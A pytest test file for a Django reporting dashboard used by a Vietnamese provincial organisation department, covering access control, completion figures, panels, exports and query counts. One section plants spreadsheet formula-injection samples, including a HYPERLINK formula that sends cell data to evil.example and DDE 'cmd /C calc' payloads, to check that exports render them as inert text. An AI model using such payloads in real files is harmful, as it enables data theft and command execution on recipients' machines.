"""Ban Tổ chức's dashboard of one cycle: who may read it, what it shows, its exports and
its query budget."""

import csv
import datetime as dt
import io
import re
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from organisations.models import Organisation
from reports.dashboards.cycle import MISSING
from reports.figures.definitions import cycle_figures
from reports.models import AnnualReport, Reminder, ReminderStatus, ReportStatus
from reports.paging import PAGE_SIZE
from reports.services.reports import report_accept, report_return, report_submit
from reports.services.subplans import subplan_register
from reports.services.uploads import PDF as PDF_TYPE
from reports.services.uploads import check_upload
from tests.reports.factories import (
    PDF,
    full_content,
    make_cycle,
    make_report,
    more_districts,
    province_pk,
    saved_report,
    submitted_report,
)
from tests.reports.printing import assert_prints, column_widths

ZONE = ZoneInfo("Asia/Ho_Chi_Minh")
DUE = dt.date(2026, 12, 15)
TODAY = dt.datetime(2026, 12, 25, 9, tzinfo=ZONE)  # ten days after the due day
# Nine district-level committees, five affiliated committees (every task); Ban Tuyên
# giáo, Ủy ban Kiểm tra, Ban Dân vận, Văn phòng, Mặt trận and six mass organisations
# (some tasks). Ban Tổ chức reviews and does not report.
EXPECTED = 14  # 9 district-level and 5 affiliated committees (III.1)


def at(day: dt.date, hour: int = 10, minute: int = 0) -> dt.datetime:
    return dt.datetime(day.year, day.month, day.day, hour, minute, tzinfo=ZONE)


def submit(cycle, organisation, actor, when, *, levels=None):
    """Submit a complete report at a given moment, with chosen self-assessed levels."""
    return submitted_report(cycle, organisation, actor, levels=levels, when=when)


def dashboard_url(cycle, **params):
    url = reverse("reports:dashboard", args=[cycle.pk])
    if params:
        url += "?" + "&".join(f"{k}={v}" for k, v in params.items())
    return url


def export_url(cycle, fmt, **params):
    url = reverse("reports:dashboard_export", args=[cycle.pk, fmt])
    if params:
        url += "?" + "&".join(f"{k}={v}" for k, v in params.items())
    return url


@pytest.fixture(autouse=True)
def private_media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.fixture(autouse=True)
def today():
    """The page is read ten days after the due day (sign-ins happen then too, so the
    session has not expired)."""
    with time_machine.travel(TODAY, tick=False) as traveller:
        yield traveller


@pytest.fixture
def cycle(plan, reviewer):
    return make_cycle(plan, reviewer, year=2026, due=DUE)


@pytest.fixture
def reports(cycle, organisations, reviewer):
    """Càng Long on time and accepted, Cầu Kè late, Đảng ủy Khối Cơ quan on time then returned,
    Châu Thành still drafting; everyone else has not started."""
    hcl = submit(
        cycle,
        organisations["TV-HCL"],
        reviewer,
        at(dt.date(2026, 12, 10)),
        levels={3: "fair", 5: "poor"},
    )
    hcl = report_accept(report=hcl, actor=reviewer)
    hck = submit(
        cycle, organisations["TV-HCK"], reviewer, at(dt.date(2026, 12, 18)), levels={1: "average"}
    )
    dukcq = submit(cycle, organisations["TV-DUKCQ"], reviewer, at(DUE, 23, 59))
    dukcq = report_return(report=dukcq, comment="Bổ sung số liệu.", actor=reviewer)
    with time_machine.travel(at(dt.date(2026, 12, 1)), tick=False):
        hct = saved_report(cycle, organisations["TV-HCT"], reviewer)
    return {"hcl": hcl, "hck": hck, "dukcq": dukcq, "hct": hct}


def get(client, url):
    return client.get(url)


def panel_url(cycle, panel, **params):
    """The heat map ("bang-nhiet") or the history ("lich-su"), loaded after the page."""
    url = reverse("reports:dashboard_panel", args=[cycle.pk, panel])
    if params:
        url += "?" + "&".join(f"{k}={v}" for k, v in params.items())
    return url


def get_panel(client, url):
    """As htmx asks for it: the panel's own markup, no page around it."""
    return client.get(url, headers={"HX-Request": "true"})


# Who may read it ---------------------------------------------------------------------------


@pytest.mark.parametrize("persona", ["reviewer", "leader", "admin_user"])
def test_reviewers_leaders_and_administrators_read_the_dashboard(
    request, client_for, cycle, persona
):
    response = get(client_for(request.getfixturevalue(persona)), dashboard_url(cycle))
    assert response.status_code == 200
    assert "Bảng theo dõi báo cáo năm 2026" in response.content.decode()


@pytest.mark.parametrize("persona", ["reporter", "body_reporter"])
def test_reporters_who_see_the_cycle_are_refused_the_dashboard(request, client_for, cycle, persona):
    client = client_for(request.getfixturevalue(persona))
    assert get(client, reverse("reports:cycle_detail", args=[cycle.pk])).status_code == 200
    assert get(client, dashboard_url(cycle)).status_code == 403
    assert get(client, export_url(cycle, "xlsx")).status_code == 403
    assert get(client, export_url(cycle, "csv")).status_code == 403


def test_unknown_cycle_is_not_found(client_for, reviewer, cycle):
    missing = reverse("reports:dashboard", args=[cycle.pk + 100])
    assert get(client_for(reviewer), missing).status_code == 404


def test_anonymous_visitors_are_sent_to_sign_in(client, cycle):
    for url in (dashboard_url(cycle), export_url(cycle, "xlsx"), export_url(cycle, "csv")):
        response = client.get(url)
        assert response.status_code == 302
        assert response["Location"].startswith(reverse("login"))


def test_the_dashboard_answers_only_get_and_its_exports_get_and_post(client_for, reviewer, cycle):
    client = client_for(reviewer)
    assert client.post(dashboard_url(cycle)).status_code == 405
    for url in (export_url(cycle, "xlsx"), export_url(cycle, "csv")):
        # The page's buttons post; a small file comes at once either way.
        assert client.post(url).status_code == 200
        assert client.put(url).status_code == 405


def test_an_unknown_export_format_is_not_found(client_for, reviewer, cycle):
    client = client_for(reviewer)
    for fmt in ("pdf", "xls", "XLSX", "json"):
        assert get(client, export_url(cycle, fmt)).status_code == 404


# What it shows -----------------------------------------------------------------------------


def test_counts_and_rates_are_the_cycles_figures(client_for, reviewer, cycle, reports):
    response = get(client_for(reviewer), dashboard_url(cycle))
    figures = response.context["figures"]
    assert figures == cycle_figures(cycle)
    assert figures.expected == EXPECTED
    assert (figures.actual, figures.on_time, figures.late) == (3, 2, 1)
    assert (figures.missing, figures.accepted) == (11, 1)
    html = response.content.decode()
    # 3 ÷ 14 = 21,4%; 2 ÷ 14 = 14,3%; 1 ÷ 14 = 7,1%, written the Vietnamese way.
    for text in ("21,4%", "14,3%", "7,1%"):
        assert text in html
    cards = {card.label: card.value for card in response.context["board"].cards}
    assert cards == {
        "Phải báo cáo": 14,
        "Đã nộp": 3,
        "Đúng hạn": 2,
        "Quá hạn": 1,
        "Chưa nộp": 11,
        "Đã tiếp nhận": 1,
    }


def test_every_expected_organisation_has_a_row_with_its_report(
    client_for, reviewer, cycle, reports, organisations
):
    response = get(client_for(reviewer), dashboard_url(cycle))
    rows = {row.organisation.code: row for row in response.context["rows"]}
    assert len(rows) == EXPECTED
    assert "TV-BTC" not in rows  # Ban Tổ chức reviews; it does not report on this plan
    # The advisory bodies, the Front and the mass organisations contribute; no row, no rate.
    assert not {"TV-BTG", "TV-UBKT", "TV-BDV", "TV-VPTU", "TV-MTTQ", "TV-HND"} & set(rows)
    assert rows["TV-HCL"].report == reports["hcl"]
    assert rows["TV-HCL"].first_submitted_on == dt.date(2026, 12, 10)
    assert rows["TV-HCL"].days_late is None
    assert rows["TV-HCK"].days_late == 3
    assert rows["TV-HCK"].submission_count == 1
    assert rows["TV-DUKCQ"].days_late is None  # 23:59 of the due day is on time
    html = response.content.decode()
    assert reports["hcl"].get_absolute_url() in html
    assert "Huyện ủy Tiểu Cần" in html


def test_overdue_organisations_come_first_with_their_days_overdue(
    client_for, reviewer, cycle, reports
):
    rows = get(client_for(reviewer), dashboard_url(cycle)).context["rows"]
    overdue = [row for row in rows if row.overdue]
    assert len(overdue) == 11
    assert rows[: len(overdue)] == overdue
    assert {row.days_late for row in overdue} == {10}
    # Châu Thành has a draft it never sent: it is overdue too.
    assert "TV-HCT" in {row.organisation.code for row in overdue}


def test_nothing_is_overdue_before_the_due_day(client_for, reviewer, cycle, reports):
    with time_machine.travel(at(dt.date(2026, 12, 15), 20), tick=False):
        rows = client_for(reviewer).get(dashboard_url(cycle)).context["rows"]
    assert not any(row.overdue for row in rows)
    assert all(row.days_late is None for row in rows if not row.submitted)


def test_last_reminder_is_the_latest_of_the_organisation(
    client_for, reviewer, cycle, organisations
):
    hcl = organisations["TV-HCL"]
    Reminder.objects.create(
        cycle=cycle,
        organisation=hcl,
        stage="due-7",
        status=ReminderStatus.SENT,
        claimed_at=at(dt.date(2026, 12, 8), 7),
        sent_at=at(dt.date(2026, 12, 8), 7),
    )
    Reminder.objects.create(
        cycle=cycle,
        organisation=hcl,
        stage="due+1",
        status=ReminderStatus.FAILED,
        claimed_at=at(dt.date(2026, 12, 16), 7),
    )
    Reminder.objects.create(
        cycle=cycle,
        organisation=organisations["TV-HCK"],
        stage="due-7",
        status=ReminderStatus.SENT,
        claimed_at=at(dt.date(2026, 12, 8), 7),
        sent_at=at(dt.date(2026, 12, 8), 7),
    )
    response = get(client_for(reviewer), dashboard_url(cycle))
    rows = {row.organisation.code: row for row in response.context["rows"]}
    assert rows["TV-HCL"].reminder.at == at(dt.date(2026, 12, 16), 7)
    assert rows["TV-HCL"].reminder.status_label == "Gửi không thành công"
    assert rows["TV-HCK"].reminder.status_label == "Đã gửi"
    assert rows["TV-TXDH"].reminder is None
    assert "16/12/2026" in response.content.decode()


def test_filters_by_organisation_kind_and_status(client_for, reviewer, cycle, reports):
    client = client_for(reviewer)

    def codes(**params):
        return {
            r.organisation.code for r in get(client, dashboard_url(cycle, **params)).context["rows"]
        }

    affiliated = {"TV-DUKCQ", "TV-DUKDN", "TV-DUQS", "TV-DUCA", "TV-DUBP"}
    assert codes(loai="affiliated_committee") == affiliated
    # The advisory bodies contribute: no row of that kind, so the filter does not offer it.
    assert "advisory_body" not in {
        k for k, _ in get(client, dashboard_url(cycle)).context["board"].kinds
    }
    assert codes(trang_thai="accepted") == {"TV-HCL"}
    assert codes(trang_thai="submitted") == {"TV-HCK"}
    assert codes(trang_thai="returned") == {"TV-DUKCQ"}
    assert codes(trang_thai="draft") == {"TV-HCT"}
    missing = codes(trang_thai=MISSING)
    assert len(missing) == 11
    assert "TV-HCT" in missing
    assert "TV-HCL" not in missing
    assert codes(loai="affiliated_committee", trang_thai=MISSING) == affiliated - {"TV-DUKCQ"}
    # Unknown values are ignored rather than hiding everything.
    assert len(codes(loai="nonsense", trang_thai="nonsense")) == EXPECTED


def test_filters_narrow_the_table_but_not_the_figures(client_for, reviewer, cycle, reports):
    response = get(client_for(reviewer), dashboard_url(cycle, loai="affiliated_committee"))
    assert response.context["figures"].expected == EXPECTED
    assert len(response.context["board"].heatmap.rows) == 5
    assert len(response.context["board"].history.rows) == 5
    assert "Đang hiển thị 5 trên 14 đơn vị" in response.content.decode()


def test_heatmap_colours_each_section_by_level_and_greys_what_is_not_sent(
    client_for, reviewer, cycle, reports
):
    board = get(client_for(reviewer), dashboard_url(cycle)).context["board"]
    assert [t.number for t in board.heatmap.tasks] == [1, 2, 3, 4, 5, 6, 7]
    cells = {row.organisation.code: row.cells for row in board.heatmap.rows}
    hcl = cells["TV-HCL"]
    assert [c.kind for c in hcl] == ["good", "good", "fair", "good", "poor", "good", "good"]
    assert hcl[2].url == f"{reports['hcl'].get_absolute_url()}#nhiem-vu-3"
    assert cells["TV-HCK"][0].kind == "average"
    # Đảng ủy Khối Cơ quan: returned, still coloured.
    assert [c.kind for c in cells["TV-DUKCQ"]] == ["good"] * 7
    # Đảng ủy Biên phòng has no report.
    assert [c.kind for c in cells["TV-DUBP"]] == ["none"] * 7
    assert {c.kind for c in cells["TV-HCT"]} == {"draft"}
    assert {c.kind for c in cells["TV-HTC"]} == {"none"}
    assert all(c.url == "" for c in cells["TV-HTC"])


def test_heatmap_shows_a_legend_and_links(client_for, reviewer, cycle, reports):
    html = get_panel(client_for(reviewer), panel_url(cycle, "bang-nhiet")).content.decode()
    assert "<html" not in html
    for label in ("Tốt", "Khá", "Trung bình", "Chưa đạt", "Chưa có báo cáo", "Đang soạn"):
        assert label in html
    assert f'href="{reports["hcl"].get_absolute_url()}#nhiem-vu-5"' in html


def test_history_shows_each_years_status(client_for, plan, reviewer, cycle, reports, organisations):
    old = make_cycle(plan, reviewer, year=2025)
    with time_machine.travel(at(dt.date(2025, 12, 20)), tick=False):
        late = make_report(old, organisations["TV-HCK"], reviewer)
        report_submit(report=late, content=full_content(late), version=late.version, actor=reviewer)
    board = get(client_for(reviewer), dashboard_url(cycle)).context["board"]
    assert [c.year for c in board.history.cycles] == [2025, 2026]
    cells = {row.organisation.code: row.cells for row in board.history.rows}
    assert cells["TV-HCK"][0].status == ReportStatus.SUBMITTED
    assert cells["TV-HCK"][0].on_time is False
    assert cells["TV-HCK"][1] == reports["hck"]
    assert cells["TV-HCL"][0] is None
    html = get_panel(client_for(reviewer), panel_url(cycle, "lich-su")).content.decode()
    assert reverse("reports:dashboard", args=[old.pk]) in html


def test_the_page_loads_its_heat_map_and_history_after_it_with_its_filters(
    client_for, reviewer, cycle, reports
):
    """The page names both panels with its own query; each panel shows the page's rows,
    as a fragment for htmx and as a page of its own with a way back without it."""
    client = client_for(reviewer)
    params = {"loai": "affiliated_committee", "trang": "1"}
    page = get(client, dashboard_url(cycle, **params))
    html = page.content.decode()
    for panel in ("bang-nhiet", "lich-su"):
        url = panel_url(cycle, panel, **params).replace("&", "&amp;")
        assert f'hx-get="{url}"' in html
        assert f'href="{url}"' in html  # without JavaScript
    shown = [row.organisation.code for row in page.context["rows"]]
    heatmap = get_panel(client, panel_url(cycle, "bang-nhiet", **params)).context["heatmap"]
    history = get_panel(client, panel_url(cycle, "lich-su", **params)).context["history"]
    assert [row.organisation.code for row in heatmap.rows] == shown
    assert [row.organisation.code for row in history.rows] == shown
    whole = get(client, panel_url(cycle, "lich-su", **params)).content.decode()
    assert "<html" in whole
    assert "Báo cáo qua các năm" in whole
    back = dashboard_url(cycle, **params).replace("&", "&amp;")
    assert f'href="{back}"' in whole
    assert get(client, panel_url(cycle, "khac")).status_code == 404


@pytest.mark.parametrize("panel", ["bang-nhiet", "lich-su", "ke-hoach"])
def test_panel_query_count_does_not_grow_with_organisations(
    client_for, reviewer, cycle, reports, django_assert_max_num_queries, panel
):
    client = client_for(reviewer)
    add_organisations(cycle, 3)
    with django_assert_max_num_queries(30) as small:
        assert get_panel(client, panel_url(cycle, panel)).status_code == 200
    add_organisations(cycle, 200)
    with django_assert_max_num_queries(len(small.captured_queries)):
        response = get_panel(client, panel_url(cycle, panel))
    if panel != "ke-hoach":  # the plan's sub-plans are counted, never listed
        name = {"bang-nhiet": "heatmap", "lich-su": "history"}[panel]
        assert len(response.context[name].rows) == PAGE_SIZE


def test_subplans_fall_in_the_four_buckets(
    client_for, plan, reviewer, reporter, other_reporter, cycle, organisations
):
    plan.subplans_due = dt.date(2026, 6, 30)
    plan.save(update_fields=["subplans_due"])
    for who, code, moment in (
        (reporter, "TV-HCL", at(dt.date(2026, 6, 1))),
        (other_reporter, "TV-HCK", at(dt.date(2026, 7, 10))),
    ):
        with time_machine.travel(moment, tick=False):
            subplan_register(
                plan=plan,
                organisation=organisations[code],
                number=f"1-KH/{code}",
                issued_on=moment.date(),
                checked=check_upload(SimpleUploadedFile("kh.pdf", PDF), (PDF_TYPE,)),
                actor=who,
            )
    board = get(client_for(reviewer), dashboard_url(cycle)).context["board"]
    counts = {bucket.key: bucket.count for bucket in board.subplans.buckets}
    assert counts == {"on_time": 1, "late": 1, "pending": 0, "overdue": 12}
    labels = [bucket.label for bucket in board.subplans.buckets]
    assert labels == [
        "Hoàn thành đúng hạn",
        "Hoàn thành quá hạn",
        "Chưa hoàn thành – chưa đến hạn",
        "Chưa hoàn thành – quá hạn",
    ]
    panel = get_panel(client_for(reviewer), panel_url(cycle, "ke-hoach"))
    assert panel.context["compliance"].buckets == board.subplans.buckets
    assert "Hoàn thành đúng hạn" in panel.content.decode()


def test_charts_carry_their_data_and_a_table_with_the_same_numbers(
    client_for, reviewer, cycle, reports
):
    response = get(client_for(reviewer), dashboard_url(cycle))
    html = response.content.decode()
    status = response.context["status_chart"]
    assert status["kind"] == "doughnut"
    assert sum(status["datasets"][0]["data"]) == EXPECTED
    assert dict(zip(status["labels"], status["datasets"][0]["data"], strict=True)) == {
        "Đã tiếp nhận": 1,
        "Đã gửi, chờ xem xét": 1,
        "Bị trả lại": 1,
        "Đang soạn, chưa gửi": 1,
        "Chưa bắt đầu": 10,
    }
    assert response.context["rates_chart"]["datasets"][0]["data"] == [21.4, 14.3, 7.1]
    assert 'id="bieu-do-trang-thai" type="application/json"' in html
    assert 'data-chart="bieu-do-trang-thai"' in html
    assert "js/charts.js" in html
    assert "chartjs-4.6.1/chart.umd.min.js" in html
    assert "Bảng số liệu của biểu đồ" in html


def test_page_has_no_inline_javascript(client_for, reviewer, cycle, reports):
    html = get(client_for(reviewer), dashboard_url(cycle)).content.decode()
    for tag in re.findall(r"<script[^>]*>", html):
        assert "src=" in tag or 'type="application/json"' in tag, tag
    assert not re.search(r"\son[a-z]+=", html)
    assert "style=" not in html


def test_dashboard_links_to_exports_rollup_and_summary(client_for, reviewer, cycle):
    html = get(client_for(reviewer), dashboard_url(cycle, loai="district_committee")).content
    html = html.decode()
    assert export_url(cycle, "xlsx") + "?loai=district_committee" in html
    assert export_url(cycle, "csv") + "?loai=district_committee" in html
    assert reverse("reports:summary_detail", args=[cycle.pk]) in html
    assert reverse("reports:rollup", args=[cycle.plan.code]) + "?nam=2026" in html


# Exports ------------------------------------------------------------------------------------


def open_xlsx(response):
    return load_workbook(io.BytesIO(response.content))


def test_xlsx_has_the_pages_figures_as_numbers(client_for, reviewer, cycle, reports):
    client = client_for(reviewer)
    page = get(client, dashboard_url(cycle))
    response = get(client, export_url(cycle, "xlsx"))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    disposition = response["Content-Disposition"]
    assert 'filename="theo-doi-112-KH-TU-2026.xlsx"' in disposition
    assert "filename*=UTF-8''Theo%20d%C3%B5i" in disposition
    workbook = open_xlsx(response)
    assert workbook.sheetnames == ["Tình hình báo cáo", "Kế hoạch thực hiện"]
    sheet = workbook["Tình hình báo cáo"]
    assert sheet["A1"].value.startswith("Tình hình báo cáo năm 2026")
    assert sheet["A1"].font.bold

    figures = page.context["figures"]
    labels = [sheet.cell(row=3, column=c).value for c in range(2, 11)]
    values = [sheet.cell(row=4, column=c).value for c in range(2, 11)]
    found = dict(zip(labels, values, strict=True))
    assert found["Phải báo cáo"] == figures.expected
    assert found["Đã nộp"] == figures.actual
    assert found["Đúng hạn"] == figures.on_time
    assert found["Quá hạn"] == figures.late
    assert found["Chưa nộp"] == figures.missing
    assert found["Đã tiếp nhận"] == figures.accepted
    assert found["Tỷ lệ đầy đủ"] == pytest.approx(float(figures.completeness) / 100)
    assert found["Tỷ lệ đúng hạn"] == pytest.approx(float(figures.timeliness) / 100)
    assert found["Tỷ lệ tiếp nhận"] == pytest.approx(float(figures.acceptance) / 100)
    assert sheet.cell(row=4, column=9).number_format == "0.0%"
    assert isinstance(sheet.cell(row=4, column=2).value, int)


def test_xlsx_lists_every_row_of_the_page_in_order(client_for, reviewer, cycle, reports):
    client = client_for(reviewer)
    rows = get(client, dashboard_url(cycle)).context["rows"]
    sheet = open_xlsx(get(client, export_url(cycle, "xlsx")))["Tình hình báo cáo"]
    header = [c.value for c in sheet[6]]
    assert header[:4] == ["STT", "Đơn vị", "Loại tổ chức", "Trạng thái"]
    assert sheet.freeze_panes == "C7"
    table = list(sheet.iter_rows(min_row=7, values_only=True))
    assert [line[1] for line in table] == [row.organisation.name for row in rows]
    by_name = {line[1]: line for line in table}
    hck = by_name["Huyện ủy Cầu Kè"]
    assert hck[3] == "Đã gửi"
    assert hck[4] == "Quá hạn"
    assert hck[5] == dt.datetime(2026, 12, 18)  # a real date, not text
    assert hck[6] == 3
    assert hck[9] == 1
    assert by_name["Huyện ủy Tiểu Cần"][6] == 10  # days overdue so far
    assert by_name["Huyện ủy Tiểu Cần"][4] == "Chưa nộp, quá hạn"


def test_xlsx_fonts_widths_and_formats(client_for, reviewer, cycle, reports):
    sheet = open_xlsx(get(client_for(reviewer), export_url(cycle, "xlsx")))["Tình hình báo cáo"]
    for row in sheet.iter_rows(min_row=6, max_row=8):
        for cell in row:
            assert cell.font.name == "Times New Roman"
            assert cell.font.size == 12
    assert all(cell.font.bold for cell in sheet[6])
    assert column_widths(sheet, 2)[1] >= 30
    assert sheet["F7"].number_format == "DD/MM/YYYY"
    assert sheet["G7"].number_format == "#,##0"


def test_xlsx_follows_the_filters_of_the_page(client_for, reviewer, cycle, reports):
    client = client_for(reviewer)
    sheet = open_xlsx(get(client, export_url(cycle, "xlsx", trang_thai="missing")))
    names = [line[1] for line in sheet.active.iter_rows(min_row=8, values_only=True)]
    assert len(names) == 11
    assert "Huyện ủy Càng Long" not in names


def test_xlsx_subplan_sheet_lists_expected_organisations(
    client_for, plan, reviewer, reporter, cycle, organisations
):
    with time_machine.travel(at(dt.date(2026, 3, 1)), tick=False):
        subplan_register(
            plan=plan,
            organisation=organisations["TV-HCL"],
            number="45-KH/HU",
            issued_on=dt.date(2026, 2, 20),
            checked=check_upload(SimpleUploadedFile("kh.pdf", PDF), (PDF_TYPE,)),
            actor=reporter,
        )
    sheet = open_xlsx(get(client_for(reviewer), export_url(cycle, "xlsx")))["Kế hoạch thực hiện"]
    lines = [line for line in sheet.iter_rows(values_only=True) if line and line[1]]
    hcl = next(line for line in lines if line[1] == "Huyện ủy Càng Long")
    assert hcl[2] == "45-KH/HU"
    assert hcl[3] == dt.datetime(2026, 2, 20)
    assert hcl[5] == "Hoàn thành đúng hạn"
    assert sheet.freeze_panes is not None


def test_csv_is_utf8_with_bom_and_the_same_rows(client_for, reviewer, cycle, reports):
    client = client_for(reviewer)
    rows = get(client, dashboard_url(cycle)).context["rows"]
    response = get(client, export_url(cycle, "csv"))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="theo-doi-112-KH-TU-2026.csv"' in response["Content-Disposition"]
    assert response.content.startswith("\ufeff".encode())
    lines = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert lines[0][:3] == ["STT", "Đơn vị", "Loại tổ chức"]
    assert [line[1] for line in lines[1:]] == [row.organisation.name for row in rows]
    hck = next(line for line in lines if line[1] == "Huyện ủy Cầu Kè")
    assert hck[5] == "18/12/2026"
    assert hck[6] == "3"


def test_excel_csv_has_the_same_rows_separated_by_semicolons(client_for, reviewer, cycle, reports):
    client = client_for(reviewer)
    rows = get(client, dashboard_url(cycle)).context["rows"]
    response = get(client, export_url(cycle, "excel.csv"))
    assert 'filename="theo-doi-112-KH-TU-2026.excel.csv"' in response["Content-Disposition"]
    assert response.content.startswith("\ufeff".encode())
    text = response.content.decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert [line[1] for line in lines[1:]] == [row.organisation.name for row in rows]
    hck = next(line for line in lines if line[1] == "Huyện ủy Cầu Kè")
    assert hck[5:7] == ["18/12/2026", "3"]
    html = get(client, dashboard_url(cycle)).content.decode()
    assert export_url(cycle, "excel.csv") in html
    assert "CSV cho máy (dấu phẩy, dấu chấm thập phân)" in html


def test_csv_quotes_names_with_commas(client_for, reviewer, cycle, reports):
    Organisation.objects.filter(code="TV-HTC").update(name='Huyện ủy Tiểu Cần, "mới"')
    response = get(client_for(reviewer), export_url(cycle, "csv"))
    text = response.content.decode("utf-8-sig")
    assert '"Huyện ủy Tiểu Cần, ""mới"""' in text
    names = [line[1] for line in csv.reader(io.StringIO(text))]
    assert 'Huyện ủy Tiểu Cần, "mới"' in names


# What users typed stays inert text in the files ---------------------------------------------

EVIL_LINK = '=HYPERLINK("http://evil.example/?d="&B9,"Xem kế hoạch")'


def register_subplan(plan, organisation, actor, number):
    with time_machine.travel(at(dt.date(2026, 3, 1)), tick=False):
        subplan_register(
            plan=plan,
            organisation=organisation,
            number=number,
            issued_on=dt.date(2026, 2, 20),
            checked=check_upload(SimpleUploadedFile("kh.pdf", PDF), (PDF_TYPE,)),
            actor=actor,
        )


def formula_cells(workbook) -> list[str]:
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in workbook
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def test_xlsx_writes_a_formula_typed_as_a_subplan_number_as_inert_text(
    client_for, plan, reviewer, reporter, cycle, organisations, reports
):
    register_subplan(plan, organisations["TV-HCL"], reporter, EVIL_LINK)
    Organisation.objects.filter(code="TV-HCK").update(name="@SUM(1+1)*cmd|' /C calc'!A0")
    workbook = open_xlsx(get(client_for(reviewer), export_url(cycle, "xlsx")))
    assert formula_cells(workbook) == []

    subplans = workbook["Kế hoạch thực hiện"]
    line = next(r for r in subplans.iter_rows() if r[1].value == "Huyện ủy Càng Long")
    assert line[2].value == "'" + EVIL_LINK
    assert line[2].data_type == "s"
    assert isinstance(line[0].value, int)  # the row number stays a number

    sheet = workbook["Tình hình báo cáo"]
    names = [row[1] for row in sheet.iter_rows(min_row=7)]
    hck = next(cell for cell in names if "SUM" in str(cell.value))
    assert hck.value == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert hck.data_type == "s"
    counts = [sheet.cell(row=4, column=c) for c in range(2, 8)]
    assert all(cell.data_type == "n" and isinstance(cell.value, int) for cell in counts)
    days_late = next(r for r in sheet.iter_rows(min_row=7) if r[1].value == hck.value)[6]
    assert days_late.value == 3
    assert days_late.data_type == "n"


def test_csv_neutralises_a_name_that_starts_like_a_formula_and_keeps_numbers_plain(
    client_for, reviewer, cycle, reports
):
    Organisation.objects.filter(code="TV-HCK").update(name="-2+3+cmd|' /C calc'!A0")
    Organisation.objects.filter(code="TV-HTC").update(name="\t=1+1")
    response = get(client_for(reviewer), export_url(cycle, "csv"))
    lines = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    names = [line[1] for line in lines[1:]]
    assert "'-2+3+cmd|' /C calc'!A0" in names
    assert "'\t=1+1" in names
    hck = next(line for line in lines if line[1].startswith("'-2"))
    assert hck[0].isdigit()
    assert hck[6] == "3"


def test_a_control_character_in_a_stored_subplan_number_does_not_break_the_workbook(
    client_for, plan, reviewer, reporter, cycle, organisations
):
    register_subplan(plan, organisations["TV-HCL"], reporter, "45\x01-KH/\x1bHU")
    Organisation.objects.filter(code="TV-HCK").update(name="Huyện ủy\x0b Cầu Kè\x7f")
    client = client_for(reviewer)
    response = get(client, export_url(cycle, "xlsx"))
    assert response.status_code == 200
    workbook = open_xlsx(response)
    numbers = [r[2] for r in workbook["Kế hoạch thực hiện"].iter_rows(values_only=True)]
    assert "45-KH/HU" in numbers
    names = [r[1] for r in workbook["Tình hình báo cáo"].iter_rows(values_only=True)]
    assert "Huyện ủy Cầu Kè" in names
    text = get(client, export_url(cycle, "csv")).content.decode("utf-8-sig")
    assert "Huyện ủy Cầu Kè," in text
    assert "\x0b" not in text
    assert "\x7f" not in text


# Query budget ---------------------------------------------------------------------------------


def add_organisations(cycle, count: int):
    """More districts: every fifth with a submitted report, every fifth with a reminder."""
    province = province_pk()
    added = more_districts(count)
    now = at(dt.date(2026, 12, 10))
    AnnualReport.objects.bulk_create(
        AnnualReport(
            cycle=cycle,
            organisation=org,
            reports_to_id=province,
            status=ReportStatus.SUBMITTED,
            first_submitted_at=now,
            last_submitted_at=now,
            submission_count=1,
        )
        for org in added[::5]
    )
    Reminder.objects.bulk_create(
        Reminder(
            cycle=cycle, organisation=org, stage="due-7", status=ReminderStatus.SENT, sent_at=now
        )
        for org in added[1::5]
    )
    return added


@pytest.mark.parametrize("fmt", [None, "xlsx", "csv"])
def test_query_count_does_not_grow_with_organisations(
    client_for, reviewer, cycle, reports, django_assert_max_num_queries, fmt
):
    client = client_for(reviewer)
    url = export_url(cycle, fmt) if fmt else dashboard_url(cycle)
    add_organisations(cycle, 3)
    # 42: the page counts the late units for "Nhắc tất cả đơn vị chậm" (two queries).
    with django_assert_max_num_queries(42) as small:
        assert get(client, url).status_code == 200
    add_organisations(cycle, 200)
    with django_assert_max_num_queries(len(small.captured_queries)):
        response = get(client, url)
    if fmt is None:  # one page of the table; the count names them all
        assert len(response.context["rows"]) == PAGE_SIZE
        assert response.context["board"].total_rows == EXPECTED + 203
        assert response.context["board"].pages == -(-(EXPECTED + 203) // PAGE_SIZE)


def test_figures_never_exceed_a_hundred_percent(client_for, reviewer, cycle, organisations):
    """Reports of organisations outside the scope do not push a rate over 100%."""
    for org in Organisation.objects.filter(kind="district_committee"):
        AnnualReport.objects.create(
            cycle=cycle,
            organisation=org,
            status=ReportStatus.ACCEPTED,
            first_submitted_at=at(dt.date(2026, 12, 1)),
            last_submitted_at=at(dt.date(2026, 12, 1)),
        )
    AnnualReport.objects.create(
        cycle=cycle,
        organisation=organisations["TV-BTC"],
        status=ReportStatus.ACCEPTED,
        first_submitted_at=at(dt.date(2026, 12, 1)),
        last_submitted_at=at(dt.date(2026, 12, 1)),
    )
    board = get(client_for(reviewer), dashboard_url(cycle)).context["board"]
    for card in board.rates:
        assert Decimal(0) <= card.value <= Decimal(100)


def test_large_cycles_page_the_table_overdue_first_and_keep_the_filters(
    client_for, reviewer, cycle, reports
):
    client = client_for(reviewer)
    add_organisations(cycle, 203)
    first = get(client, dashboard_url(cycle)).context
    last = get(client, dashboard_url(cycle) + f"?trang={first['board'].pages}").context
    assert first["board"].page == 1
    assert all(row.overdue for row in first["rows"])  # overdue ones lead, across pages
    seen = [r.organisation.code for r in first["rows"]] + [
        r.organisation.code for r in last["rows"]
    ]
    assert len(set(seen)) == len(seen)
    assert len(first["board"].heatmap.rows) == len(first["rows"])
    assert len(first["board"].history.rows) == len(first["rows"])
    assert first["figures"].expected == EXPECTED + 203  # the cards count every organisation
    filtered = get(client, dashboard_url(cycle) + "?trang_thai=accepted&trang=9").context
    assert filtered["board"].page == filtered["board"].pages == 1
    html = get(client, dashboard_url(cycle)).content.decode()
    assert "trang=2" in html


def test_reviewer_can_remind_from_the_dashboard_and_the_leader_only_reads(
    client_for, reviewer, leader, plan
):
